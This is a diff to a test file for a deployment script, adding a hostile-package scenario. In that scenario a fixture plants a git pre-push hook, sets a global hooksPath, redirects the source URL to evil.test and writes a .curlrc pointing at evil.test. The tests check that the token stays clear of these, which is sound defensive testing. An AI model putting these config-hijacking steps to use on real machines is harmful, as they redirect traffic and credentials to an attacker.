@@ -14,6 +14,7 @@ function deliver({
   token = true,
   file = 'user',
   content = digest,
+  hostile = false,
 } = {}) {
   const box = new Sandbox();
   try {
@@ -33,29 +34,50 @@ publish)
   echo new >"$HOME/published/production/a.yaml"
   git -C "$HOME/published" commit --quiet --all --message Publish
   git -C "$HOME/published" push --quiet origin HEAD:manifests
+  [ -z "$HOSTILE" ] || {
+    printf '#!/bin/sh\\ntouch "$LOG.hook"\\n' >.git/hooks/pre-push
+    chmod +x .git/hooks/pre-push
+    cp .git/hooks/pre-push "$WORK/manifests.git/hooks/pre-push"
+    git config --global core.hooksPath "$PWD/.git/hooks"
+    git config --global url.https://evil.test/.insteadOf "$SOURCE_URL"
+    echo 'url = "https://evil.test"' >"$HOME/.curlrc"
+  }
   ;;
 esac`,
     );
     box.program(
       'curl',
-      `echo "$*" >>"$LOG.curl"; cat "$2" >"$LOG.login"
+      `echo "$*" >>"$LOG.curl"; cat "$2" >"$LOG.login"; cat "$HOME/.curlrc" >>"$LOG.curl" 2>/dev/null
 for argument; do case $argument in @*) cat "\${argument#@}" >>"$LOG.bodies"; echo >>"$LOG.bodies" ;; */answer) printf '%s' '${answer}' >"$argument" ;; esac; done
 printf %s ${status}`,
     );
     fs.mkdirSync(box.path('digests'));
     if (built) fs.writeFileSync(box.path('digests', file), content);
     if (token) fs.writeFileSync(box.path('token'), 't0ken');
-    const result = box.run('deliver.sh', {
+    const env = {
       SOURCE_URL: source,
       SOURCE_BRANCH: 'main',
       MANIFESTS_BRANCH: 'manifests',
       ENVIRONMENT: 'production',
       COMMIT: commit,
+      BRANCH: branch,
       DIGESTS: box.path('digests'),
       GIT_TOKEN_FILE: box.path('token'),
+      WORK: box.path('work'),
       SAME: same ? '1' : '',
+      HOSTILE: hostile ? '1' : '',
+      TMPDIR: box.path('tmp'),
       LOG: box.path('log'),
-    });
+    };
+    fs.mkdirSync(box.path('tmp'));
+    const result = { status: 0 as number | null, stdout: '', stderr: '' };
+    for (const script of ['fetch.sh', 'prepare.sh', 'propose.sh']) {
+      const { status: failed, stdout, stderr } = box.run(script, env);
+      result.stdout += stdout;
+      result.stderr += stderr;
+      result.status = failed;
+      if (failed !== 0) break;
+    }
     const read = (file: string) => (fs.existsSync(box.path(file)) ? box.read(file) : '');
     return {
       ...result,
@@ -65,7 +87,8 @@ printf %s ${status}`,
       bodies: read('log.bodies').trim().split('\n'),
       branches: box.git(source, 'branch', '--format=%(refname:short)').split('\n'),
       show: (object: string) => box.git(source, 'show', object),
-      leftovers: fs.readdirSync(box.path('home')).filter((name) => name.startsWith('deliver.')),
+      leftovers: fs.readdirSync(box.path('tmp')),
+      hooked: fs.existsSync(box.path('log.hook')),
       settingsOfMain: box.git(source, 'show', 'main:environments/production.yaml'),
       proposed: (() => {
         try {
@@ -156,11 +179,19 @@ test.each([
 ])('refuses what a build may have left: %s', (_, how) => {
   const { status, stderr, log, branches } = deliver(how);
   expect(status).toBe(1);
-  expect(stderr).toMatch(/^deliver: .* is no (name|digest)/s);
+  expect(stderr).toMatch(/^prepare: .* is no (name|digest)/s);
   expect(log.filter((line) => line.startsWith('npx'))).toEqual([]);
   expect(branches).not.toContain(branch);
 });
 
 test('what packages bring to be run while they are installed is not run beside the token', () => {
   expect(done.log[0]).toMatch(/^npm ci --ignore-scripts /);
+});
+
+test('what the programs of packages leave behind meets no token: neither hooks, nor settings of git and curl', () => {
+  const { status, stderr, hooked, branches, curl } = deliver({ hostile: true });
+  expect([status, stderr]).toEqual([0, '']);
+  expect(hooked).toBe(false);
+  expect(branches).toContain(branch);
+  expect(curl).not.toContain('evil');
 });
